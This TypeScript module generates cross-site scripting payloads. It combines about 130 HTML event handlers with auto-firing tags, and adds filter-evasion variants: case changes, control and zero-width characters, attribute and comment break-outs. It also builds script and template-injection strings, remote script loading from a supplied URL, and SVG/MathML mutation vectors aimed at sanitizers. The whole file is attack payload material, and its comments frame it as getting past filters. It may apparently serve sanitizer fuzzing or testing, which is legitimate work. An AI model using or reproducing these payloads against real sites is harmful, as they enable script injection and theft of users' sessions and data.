import { pairs } from './payload.ts';
import type { Family, Maker } from './payload.ts';

/** Handlers that fire by themselves, by loading, by time or by the least touch, in the manner of the public lists. */
const EVENTS = `
onabort onafterprint onanimationcancel onanimationend onanimationiteration onanimationstart onauxclick onbeforecopy
onbeforecut onbeforeinput onbeforematch onbeforepaste onbeforeprint onbeforetoggle onbeforeunload onbegin onblur onbounce
oncancel oncanplay oncanplaythrough onchange onclick onclose oncommand oncontentvisibilityautostatechange oncontextlost
oncontextmenu oncopy oncuechange oncut ondblclick ondrag ondragend ondragenter ondragleave ondragover ondragstart ondrop
ondurationchange onend onended onerror onfinish onfocus onfocusin onfocusout onformdata onfullscreenchange
ongotpointercapture onhashchange oninput oninvalid onkeydown onkeypress onkeyup onload onloadeddata onloadedmetadata
onloadstart onlostpointercapture onmessage onmousedown onmouseenter onmouseleave onmousemove onmouseout onmouseover
onmouseup onmousewheel onpagehide onpageshow onpaste onpause onplay onplaying onpointerdown onpointerenter onpointermove
onpointerover onpointerrawupdate onpointerup onpopstate onprogress onratechange onrepeat onreset onresize onscroll
onscrollend onscrollsnapchange onsearch onsecuritypolicyviolation onseeked onseeking onselect onselectionchange
onselectstart onshow onslotchange onstart onstalled onstorage onsubmit onsuspend ontimeupdate ontoggle ontouchstart
ontransitioncancel ontransitionend ontransitionrun ontransitionstart onunhandledrejection onunload onvolumechange
onwaiting onwebkitanimationstart onwebkittransitionend onwheel onzoom
`
  .trim()
  .split(/\s+/u);

const CARRIERS: readonly ((handler: string) => string)[] = [
  (handler) => `<img src=x ${handler}>`,
  (handler) => `<svg ${handler}><circle r="9"/></svg>`,
  (handler) => `<div tabindex=1 autofocus contenteditable ${handler}>x</div>`,
  (handler) => `<input autofocus value=x ${handler}>`,
  (handler) => `<details open ${handler}><summary>x</summary></details>`,
  (handler) => `<xss style="animation:x 1s" ${handler}>x</xss>`,
];

const events: readonly Maker[] = EVENTS.flatMap((event, at) => {
  const carriers = [0, 2, 4].map((step) => CARRIERS[(at + step) % CARRIERS.length] ?? String);
  return carriers.map(
    (carry): Maker =>
      ({ js }) =>
        carry(`${event}="${js}"`),
  );
});

/** Ways to write one handler that filters overlook. */
const DISGUISES: readonly Maker[] = [
  ({ js }) => `<IMG SRC=x ONERROR="${js}">`,
  ({ js }) => `<iMg sRc=x oNeRrOr='${js}'>`,
  ({ js }) => `<img/src=x/onerror=${js}>`,
  ({ js }) => `<img\tsrc=x\tonerror="${js}">`,
  ({ js }) => `<img\nsrc=x\nonerror="${js}">`,
  ({ js }) => `<img\fsrc=x\fonerror="${js}">`,
  ({ js }) => `<img src=x onerror\u{a0}="${js}">`,
  ({ js }) => `<img src=x onerror = "${js}">`,
  ({ js }) => `<img src=x:x onerror=\`${js}\`>`,
  ({ js }) => `<img """><img src=x onerror="${js}">`,
  ({ js }) => `"><img src=x onerror="${js}">`,
  ({ js }) => `'><img src=x onerror="${js}">`,
  ({ js }) => `\`"'><img src=x onerror="${js}">`,
  ({ js }) => `</p><img src=x onerror="${js}"><p>`,
  ({ js }) => `</script><img src=x onerror="${js}">`,
  ({ js }) => `--><img src=x onerror="${js}"><!--`,
  ({ js }) => `]]><img src=x onerror="${js}">`,
  ({ js }) => `<!--><img src=x onerror="${js}">-->`,
  ({ js }) => `<!--[if gte IE 4]><script>${js}</script><![endif]-->`,
  ({ js }) => `<?xml version="1.0"?><img src=x onerror="${js}">`,
  ({ js }) => `<![CDATA[<img src=x onerror="${js}">]]>`,
  ({ js }) => `<\u{0}img src=x onerror="${js}">`,
  ({ js }) => `<i\u{0}mg src=x onerror="${js}">`,
  ({ js }) => `<img src=x on\u{200b}error="${js}">`,
  ({ js }) => `\u{feff}<img src=x onerror="${js}">`,
  ({ js }) => `\u{202e}<img src=x onerror="${js}">\u{202c}`,
  ({ js }) => `\u{ff1c}img src=x onerror="${js}"\u{ff1e}`,
  ({ js }) => `<img src=x onerror="${js}"`,
  ({ js }) => `<<img src=x onerror="${js}">`,
  ({ js }) => `<img src="x" title="<img src=x onerror='${js}'>">`,
  ({ js }) => `<img alt="><img src=x onerror='${js}'>" src=x>`,
  ({ js }) => `<a title="\n\n<img src=x onerror='${js}'>\n\n">x</a>`,
  ({ js }) => `<x/onclick=${js}>press`,
  ({ js }) => `<b/%25%32%35%25%33%36 onmouseover="${js}">x</b>`,
];

const SCRIPTS: readonly Maker[] = [
  ({ js }) => `<script>${js}</script>`,
  ({ js }) => `<SCRIPT>${js}</SCRIPT>`,
  ({ js }) => `<ScRiPt >${js}</sCrIpT >`,
  ({ js }) => `<script\t>${js}</script\n>`,
  ({ js }) => `<script/x>${js}</script/y>`,
  ({ js }) => `<script>${js}//`,
  ({ js }) => `<scr<script>ipt>${js}</scr</script>ipt>`,
  ({ js }) => `<<script>${js}//<</script>`,
  ({ js }) => `<script type=module>${js}</script>`,
  ({ js }) => `<script type="text/javascript" defer async>${js}</script>`,
  ({ js }) => `<script nonce="" integrity="">${js}</script>`,
  ({ js }) => `<noscript><p title="</noscript><script>${js}</script>"></noscript>`,
  ({ js }) => `<template><script>${js}</script></template>`,
  ({ js }) => `<template shadowrootmode="open"><script>${js}</script></template>`,
  ({ js }) => `<textarea></textarea><script>${js}</script>`,
  ({ js }) => `<title></title><script>${js}</script>`,
  ({ js }) => `<style></style><script>${js}</script>`,
  ({ js }) => `<xmp><script>${js}</script></xmp>`,
  ({ js }) => `<plaintext><script>${js}</script>`,
  ({ js }) => `<select><option><script>${js}</script></select>`,
  ({ js }) => `<iframe srcdoc="<script>parent.${js.slice(7)}</script>"></iframe>`,
  ({ js }) => `<iframe srcdoc="&lt;script&gt;parent.${js.slice(7)}&lt;/script&gt;"></iframe>`,
  ({ js }) => `<object data="data:text/html,<script>${js}</script>"></object>`,
  ({ js }) => `<embed src="data:text/html,<script>${js}</script>">`,
  ({ url }) => `<script src="${url}"></script>`,
  ({ url }) => `<script src=//${url.slice(8)}></script>`,
  ({ url }) => `<script type=module src="${url}"></script>`,
  ({ url }) => `<script>import("${url}")</script>`,
  ({ url }) => `<script type=importmap>{"imports":{"x":"${url}"}}</script>`,
  ({ url }) => `<script type=speculationrules>{"prefetch":[{"urls":["${url}"]}]}</script>`,
  ({ js }) => `{{constructor.constructor('${js}')()}}`,
  ({ js }) => '${' + js + '}',
  ({ js }) => `<%= ${js} %>`,
  ({ js }) => `{"__html":"<img src=x onerror='${js}'>","dangerouslySetInnerHTML":{"__html":"<script>${js}</script>"}}`,
];

/** Vectors that exist because a parser mends what it reads, and those of SVG and MathML. */
const FOREIGN: readonly ((js: string) => string)[] = [
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `<svg><script>${js.replaceAll('=', '&#61;')}</script></svg>`,
  (js) => `<svg><script href="data:text/javascript,${js}"/></svg>`,
  (js) => `<svg><script xlink:href="data:,${js}"></script></svg>`,
  (js) => `<svg><animate onbegin="${js}" attributeName=x dur=1s></svg>`,
  (js) => `<svg><set onbegin="${js}" attributeName=x dur=1s></svg>`,
  (js) => `<svg><animateTransform onbegin="${js}" attributeName=transform></svg>`,
  (js) => `<svg><animateMotion onbegin="${js}"></svg>`,
  (js) => `<svg><a><animate attributeName=href values="javascript:${js}"/><text x=20 y=20>x</text></a></svg>`,
  (js) => `<svg><a xlink:href="javascript:${js}"><text y=20>x</text></a></svg>`,
  (js) => `<svg><use href="data:image/svg+xml,<svg id=x onload='${js}'/>#x"></svg>`,
  (js) => `<svg><foreignObject><img src=x onerror="${js}"></foreignObject></svg>`,
  (js) => `<svg><desc><img src=x onerror="${js}"></desc></svg>`,
  (js) => `<svg><title><style><img src=x onerror="${js}"></style></title></svg>`,
  (js) => `<svg></p><style><a id="</style><img src=x onerror='${js}'>">`,
  (js) => `<svg><style><img src=x onerror="${js}"></style></svg>`,
  (js) => `<svg><discard onbegin="${js}"></svg>`,
  (js) => `<svg><image href=x onerror="${js}"></svg>`,
  (js) => `<svg/onload=${js}>`,
  (js) => `<svg><svg onload="${js}"></svg></svg>`,
  (js) => `<math><mtext><table><mglyph><style><img src=x onerror="${js}"></style></mglyph></table></mtext></math>`,
  (js) => `<math><mi xlink:href="javascript:${js}">x</mi></math>`,
  (js) => `<math href="javascript:${js}">x</math>`,
  (js) => `<math><maction actiontype="statusline#http://x" xlink:href="javascript:${js}">x</maction></math>`,
  (js) => `<math><annotation-xml encoding="text/html"><img src=x onerror="${js}"></annotation-xml></math>`,
  (js) => `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror='${js}' src=x>">`,
  (js) => `<math><style><!--</style><img title="--&gt;&lt;img src=x onerror=${js}&gt;"></math>`,
  (js) => `<noembed><img title="</noembed><img src=x onerror='${js}'>"></noembed>`,
  (js) => `<table><td><svg><desc><td><img src=x onerror="${js}"></desc></svg></td></table>`,
  (js) => `<a href="#" id="</style><img src=x onerror='${js}'>"><style></a>`,
];

const AROUND: readonly ((html: string) => string)[] = [
  (html) => html,
  (html) => `before ${html} after`,
  (html) => `<div>${html}</div>`,
];

export const ELEMENT_FAMILIES: readonly Family[] = [
  { name: 'event handlers', makers: events },
  { name: 'disguised handlers', makers: DISGUISES },
  { name: 'scripts and templates', makers: SCRIPTS },
  {
    name: 'SVG, MathML and mended markup',
    makers: pairs(FOREIGN, AROUND).map(
      ([write, around]): Maker =>
        ({ js }) =>
          around(write(js)),
    ),
  },
];
